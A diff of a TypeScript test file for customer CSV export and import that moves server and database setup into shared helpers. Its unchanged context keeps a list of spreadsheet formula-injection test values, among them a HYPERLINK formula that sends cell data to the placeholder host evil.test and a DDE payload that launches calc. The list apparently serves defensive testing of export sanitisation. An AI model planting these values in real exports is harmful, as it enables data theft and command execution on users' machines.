@@ -9,10 +9,8 @@ import { exportCustomers } from '../../src/exports/export-customers.js';
 import { importCustomers } from '../../src/imports/import-customers.service.js';
 import type { Database } from '../../src/platform/db/database.js';
 import type { App } from '../../src/platform/http/app.js';
-import { buildServer } from '../../src/platform/http/server.js';
-import { apiClient, issuedInvoice, type ApiClient } from '../support/api.js';
+import { issuedInvoice, startApiServer, stopApiServer, type ApiClient } from '../support/api.js';
 import { newOrganization } from '../support/organization.js';
-import { openTestDatabase } from '../support/test-database.js';
 
 let database: Database;
 let app: App;
@@ -20,15 +18,8 @@ let client: ApiClient;
 
 const dangerous = ['=HYPERLINK("http://evil.test/?"&A1,"Click")', '+1+cmd|/c calc', '-2+3', '@SUM(A1:A9)', "'=already quoted"];
 
-beforeAll(async () => {
-  database = await openTestDatabase();
-  app = await buildServer({ database });
-  client = await apiClient(app, database);
-});
-afterAll(async () => {
-  await app?.close();
-  await database?.close();
-});
+beforeAll(async () => ({ database, app, client } = await startApiServer()));
+afterAll(() => stopApiServer({ app, database }));
 
 const cells = (text: string) => parse(text) as string[][];
 
